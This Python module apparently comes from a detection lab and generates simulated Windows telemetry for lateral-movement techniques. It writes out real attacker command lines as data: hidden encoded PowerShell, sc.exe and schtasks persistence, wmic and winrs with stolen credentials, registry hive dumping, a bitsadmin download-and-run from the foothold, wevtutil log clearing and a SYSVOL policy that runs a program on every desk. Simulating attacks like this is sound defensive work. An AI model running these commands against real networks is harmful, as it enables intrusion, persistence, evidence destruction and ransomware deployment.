"""With what is there: PsExec, services, tasks, WMI, remote shells, the registry, BITS."""

from dataclasses import replace
from datetime import datetime

from hopwatch.lab import browsing, windows
from hopwatch.lab.acts.link import Events, Flow, later
from hopwatch.lab.acts.objects import asks_wmi, uses_object
from hopwatch.lab.acts.programs import (
    CMD,
    POWERSHELL,
    SVCHOST,
    SYSTEM32,
    made_up_name,
    runs,
    runs_for,
    writes_file,
)
from hopwatch.lab.acts.services import Service, installs, reconfigures, starts
from hopwatch.lab.acts.shares import mounts, opens_file, opens_pipe, puts_file
from hopwatch.lab.acts.tasks import executes, registers
from hopwatch.lab.acts.visit import Visit, arrives, leaves
from hopwatch.lab.acts.winrm import SHELL_HOST, shell
from hopwatch.lab.routine.operators import sysinternals
from hopwatch.lab.scenarios.cast import Cast

ENCODED = "powershell.exe -NoP -W Hidden -Enc SQBFAFgAIAAoAE4AZQB3AC0A"
TOOLS = ("m64.exe", "svch0st.exe", "winupd.dll", "procdump64.exe", "rclone.exe", "nc64.exe")


def psexec_everywhere(cast: Cast) -> Events:
    """Run Sysinternals' PsExec on every target, half a minute apart."""
    for at, target in cast.steps(15, 60):
        line = f'psexec64.exe \\\\{target.name} -accepteula -s cmd /c "whoami"'
        yield from runs(later(at, -1), cast.source, cast.person.name, r"C:\Users\Public\psexec64.exe", line)
        yield from sysinternals(cast.visit(at, target), (rf"{SYSTEM32}\whoami.exe", "whoami"))


def service_by_sc(cast: Cast) -> Events:
    """Make a service with sc.exe that runs an encoded command."""
    for at, target in cast.steps(300, 1500):
        name = cast.chance.choice(("WinUpdateHelper", "SyncHostSvc", made_up_name(at, target.name, length=6)))
        image = f"%COMSPEC% /b /c start /b /min {ENCODED}"
        line = f'sc.exe \\\\{target.name} create {name} binPath= "{image}"'
        yield from runs(later(at, -0.5), cast.source, cast.person.name, rf"{SYSTEM32}\sc.exe", line)
        visit = cast.visit(at, target)
        yield from arrives(visit, "dce_rpc", sent=3000, received=2500, duration=20.0)
        yield from installs(visit, Service(name, image), 2.0)
        yield from starts(visit, CMD, image.replace("%COMSPEC%", CMD), 9.0)
        yield from runs(visit.after(9.3), target, "SYSTEM", POWERSHELL, ENCODED, parent=CMD)
        yield from leaves(visit, 20)


def service_changed(cast: Cast) -> Events:
    """Point a service that is there to a command, start it, point it back: no service is new."""
    for at, target in cast.steps(600, 2400):
        visit = cast.visit(at, target, ntlm=True)
        yield from arrives(visit, "dce_rpc", sent=2600, received=2400, duration=9.0)
        yield from reconfigures(visit, 0.5)
        yield from starts(visit, CMD, f"{CMD} /c {ENCODED}", 1.2)
        yield from leaves(visit, 9)


def task_by_schtasks(cast: Cast) -> Events:
    """Make a task with schtasks /s that stays."""
    for at, target in cast.steps(300, 1500):
        name = cast.chance.choice(
            (r"\Microsoft\Windows\UpdateCheck", r"\OneDriveSync", r"\GoogleUpdateTaskX")
        )
        line = f'schtasks /create /s {target.name} /ru SYSTEM /tn "{name}" /tr "{ENCODED}" /sc onlogon'
        yield from runs(later(at, -0.5), cast.source, cast.person.name, rf"{SYSTEM32}\schtasks.exe", line)
        visit = cast.visit(at, target)
        yield from arrives(visit, "dce_rpc", sent=5200, received=3100, duration=6.0)
        yield from registers(visit, name, ENCODED, 1.0)
        yield from executes(visit, POWERSHELL, ENCODED, 1.6)
        yield from leaves(visit, 6)


def wmi_process(cast: Cast) -> Events:
    """Start a process with wmic /node:, with a password typed in."""
    for at, target in cast.steps(240, 1500):
        line = f'wmic /node:{target.name} /user:{cast.account} /password:**** process call create "{ENCODED}"'
        yield from with_password(cast, later(at, -0.6), target.name, rf"{SYSTEM32}\wbem\WMIC.exe", line)
        visit = cast.visit(at, target)
        yield from asks_wmi(visit, "GetObject", "ExecMethod")
        yield from runs_for(replace(visit, port=135), 1.2, POWERSHELL, ENCODED)


def with_password(cast: Cast, at: datetime, server: str, image: str, line: str) -> Events:
    """Run a tool at the foothold that is handed the stolen account's password."""
    domain = cast.world.domain.name
    yield from runs(at, cast.source, cast.person.name, image, line)
    yield windows.explicit_credentials(
        later(at, 0.3),
        host=cast.source.fqdn,
        user=cast.person.name,
        domain=domain,
        target_user=cast.account,
        target_domain=domain,
        target_server=server,
        process=image,
    )


def enter_session(cast: Cast) -> Events:
    """Enter-PSSession to each target, and look around there."""
    for at, target in cast.steps(600, 2400):
        yield from runs(later(at, -1), cast.source, cast.person.name, POWERSHELL, "powershell.exe")
        commands = (
            (rf"{SYSTEM32}\whoami.exe", "whoami /groups"),
            (rf"{SYSTEM32}\net.exe", "net localgroup administrators"),
            (rf"{SYSTEM32}\qwinsta.exe", "qwinsta"),
        )
        yield from shell(cast.visit(at, target), cast.chance.uniform(120, 500), *commands)


def winrs(cast: Cast) -> Events:
    """Run commands with winrs on each target."""
    for at, target in cast.steps(60, 400):
        line = f"winrs -r:{target.name} -u:{cast.account} cmd /c {ENCODED}"
        yield from with_password(cast, later(at, -0.8), target.name, rf"{SYSTEM32}\winrs.exe", line)
        commands = ((CMD, f"{CMD} /C {ENCODED}"),)
        yield from shell(cast.visit(at, target), 14, *commands, host=SHELL_HOST)


def dcom_from_powershell(cast: Cast) -> Events:
    """Start MMC20.Application or ShellWindows from PowerShell: no output comes back."""
    console = rf"{SYSTEM32}\mmc.exe"
    for at, target in cast.steps(400, 1800):
        line = f"[activator]::CreateInstance([type]::GetTypeFromProgID('MMC20.Application','{target.name}'))"
        yield from runs(later(at, -1), cast.source, cast.person.name, POWERSHELL, f'powershell -c "{line}"')
        visit = cast.visit(at, target)
        yield from uses_object(visit, "GetIDsOfNames", "Invoke")
        entry = replace(visit, port=135)
        yield from runs_for(entry, 0.8, console, f"{console} -Embedding", SVCHOST)
        yield from runs_for(entry, 2.0, POWERSHELL, ENCODED, console)


def remote_registry(cast: Cast) -> Events:
    """Save hives of the registry to a file and fetch them: secretsdump's way."""
    for at, target in cast.steps(240, 1500):
        visit = cast.visit(at, target, ntlm=True, calls_itself="")
        yield from arrives(visit, "dce_rpc", sent=14_000, received=410_000, duration=48.0)
        yield from mounts(visit, "IPC$")
        yield from opens_pipe(visit, "svcctl", 0.4)
        yield from visit.flow.calls(0.5, "svcctl", "OpenSCManagerW", "OpenServiceW", "StartServiceW")
        yield from opens_pipe(visit, "winreg", 1.4)
        calls = ("OpenLocalMachine", "BaseRegOpenKey", "BaseRegSaveKey", "BaseRegCloseKey")
        yield from visit.flow.calls(1.5, "winreg", *calls)
        yield from mounts(visit, "ADMIN$", 3.0)
        file = rf"Temp\{made_up_name(at, target.name)}.tmp"
        yield from opens_file(visit, "ADMIN$", file, 3.5, 98_304)
        yield from leaves(visit, 48)


def tools_copied(cast: Cast) -> Events:
    """Copy the same tools to the administrative shares of all targets; run nothing yet."""
    tools = cast.chance.sample(TOOLS, 2)
    for at, target in cast.steps(20, 200):
        visit = cast.visit(at, target)
        yield from arrives(visit, sent=2_400_000, received=5000, duration=9.0)
        yield from mounts(visit, "C$")
        for place, tool in enumerate(tools):
            yield from puts_file(visit, "C$", rf"Windows\Temp\{tool}", 0.5 + place, 1_203_200)
        yield from leaves(visit, 10)


def bits_transfer(cast: Cast) -> Events:
    """Serve a tool from the foothold; have targets fetch it with BITS, started over WMI."""
    for at, target in cast.steps(300, 1500):
        visit = cast.visit(at, target)
        yield from asks_wmi(visit, "ExecMethod")
        source = f"http://{cast.source.address}:8080/u.dat"
        line = rf"bitsadmin /transfer upd /priority foreground {source} C:\ProgramData\u.exe"
        yield from runs_for(replace(visit, port=135), 1.0, rf"{SYSTEM32}\bitsadmin.exe", line)
        fetch = Flow(later(at, 3), target, cast.source, 8080)
        yield fetch.conn("http", sent=400, received=812_000)
        yield browsing.http(
            later(at, 3.01),
            host=f"{cast.source.address}:8080",
            uri="/u.dat",
            agent="Microsoft BITS/7.8",
            received=811_520,
            port=8080,
            **fetch.wire,
        )
        yield from writes_file(later(at, 4), target, r"C:\ProgramData\u.exe", rf"{SYSTEM32}\svchost.exe")
        yield from runs_for(replace(visit, port=135), 30.0, r"C:\ProgramData\u.exe", "u.exe -s")


def logs_cleared(cast: Cast) -> Events:
    """Log on over WinRM, work, and clear the logs with wevtutil."""
    for at, target in cast.steps(600, 2400):
        lines = ("wevtutil cl Security", "wevtutil cl System")
        commands = [(rf"{SYSTEM32}\wevtutil.exe", line) for line in lines]
        visit: Visit = cast.visit(at, target)
        yield from shell(visit, 300, (rf"{SYSTEM32}\whoami.exe", "whoami"), *commands)
        session = replace(visit, port=5985)
        told = {"host": target.fqdn, "user": cast.account, "domain": session.domain}
        yield windows.security_log_cleared(visit.after(152), logon_id=session.session, **told)
        yield windows.log_cleared(visit.after(227), **told)


def policy_for_all(cast: Cast) -> Events:
    """Put a program into SYSVOL and let a policy's task run it everywhere: the end of a ransom story."""
    controller = cast.source.controller
    visit = cast.visit(cast.at, controller)
    domain = cast.world.domain
    folder = rf"{domain.suffix}\Policies\{{6AC1786C-016F-11D2-945F-00C04FB984F9}}\Machine"
    yield from arrives(visit, sent=900_000, received=4000)
    yield from mounts(visit, "SYSVOL")
    yield from opens_file(visit, "SYSVOL", rf"{folder}\Scripts\upd.exe", 1.0, 712_000)
    yield from opens_file(visit, "SYSVOL", rf"{folder}\Preferences\ScheduledTasks\ScheduledTasks.xml", 3.0)
    yield from leaves(visit, 60)
    program = rf"\\{domain.suffix}\SYSVOL\{folder}\Scripts\upd.exe"
    for person in cast.today.present:
        at = later(cast.at, cast.chance.uniform(600, 6000))
        yield windows.task_registered(
            at,
            host=person.desk.fqdn,
            user=person.desk.account,
            domain=domain.name,
            task=r"\WindowsDefenderUpdate",
            command=program,
            logon_id="0x3e7",
        )
        yield from runs(later(at, 2), person.desk, "SYSTEM", program, program, parent=SVCHOST)
